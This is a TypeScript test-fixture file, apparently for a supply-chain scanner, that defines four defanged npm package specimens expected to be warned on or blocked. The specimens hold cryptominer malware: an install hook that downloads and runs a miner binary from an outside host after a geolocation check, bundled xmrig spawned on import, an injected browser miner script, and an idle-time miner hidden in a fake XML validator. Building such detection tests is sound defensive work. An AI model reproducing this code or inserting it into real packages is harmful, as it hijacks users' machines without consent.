import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'the machine is put to work for somebody else (rspack, conventional-changelog, xmlrpc)';

export const specimens: readonly Specimen[] = [
  {
    name: 'miner-downloaded',
    from,
    files: {
      'package.json': hooked('node support.js'),
      'support.js': `const axios = require('axios');
const fs = require('fs');
const { exec } = require('child_process');
(async () => {
  const { data: where } = await axios.get('https://ipinfo.invalid/json');
  if (!['CN', 'RU', 'HK', 'BY', 'IR'].includes(where.country)) return;
  const { data } = await axios.get('http://80.invalid:8880/vant_helper', { responseType: 'arraybuffer' });
  fs.writeFileSync('/tmp/vant_helper', data, { mode: 0o777 });
  exec('/tmp/vant_helper --url pool.invalid:9000 --user INERT --pass x --cpu-max-threads-hint=75 --background');
})();
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'miner-shipped',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { spawn } = require('child_process');
const path = require('path');
const args = ['-o', 'stratum+tcp://pool.invalid:3333', '-u', 'INERT', '-p', 'x', '--donate-level', '1'];
spawn(path.join(__dirname, 'vendor', 'xmrig'), args, { detached: true, stdio: 'ignore' }).unref();
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'miner-in-page',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `(function () {
  var script = document.createElement('script');
  script.src = 'https://coin.invalid/lib/miner.min.js';
  script.onload = function () {
    var miner = new CoinHive.Anonymous('INERT', { throttle: 0.3 });
    miner.start();
  };
  document.head.appendChild(script);
})();
`,
    },
    expect: 'warn',
  },
  {
    name: 'miner-when-idle',
    from,
    files: {
      'package.json': manifest({ main: 'lib/validator.js' }),
      'lib/validator.js': `const cp = require('child_process');
const os = require('os');
let child = null;
function idle() {
  const [one] = os.loadavg();
  if (one < 0.3 && !child) {
    child = cp.spawn('./xmrig', ['--url=stratum+ssl://pool.invalid:443', '--user=INERT', '--coin=monero', '--randomx-mode=light']);
  } else if (one > 0.8 && child) {
    child.kill();
    child = null;
  }
}
exports.validate = xml => xml.length > 0;
setInterval(idle, 5000);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
];
